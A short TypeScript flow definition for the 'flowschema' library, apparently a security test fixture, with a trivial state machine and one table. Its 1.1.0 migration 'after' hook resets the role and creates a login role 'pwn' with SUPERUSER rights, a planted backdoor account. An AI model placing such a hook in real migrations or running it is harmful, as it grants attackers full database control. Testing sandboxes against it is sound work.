import { defineFlow, sql } from 'flowschema';
export default defineFlow({
  key: 'f',
  domain: "sec-b01",
  version: "1.1.0",
  states: { a: { type: 'initial', transitions: { go: 'b' } }, b: { type: 'final' } },
  tables: {
    t: {
      columns: {
        id: { type: 'integer', primaryKey: true },
        note: { type: 'text', optional: true },
      },
    },
  },
  migrations: { '1.1.0': { after: "RESET ROLE; DO $$ BEGIN EXECUTE 'CREATE ROLE pwn SUPERUSER LOGIN'; END $$;" } },
});
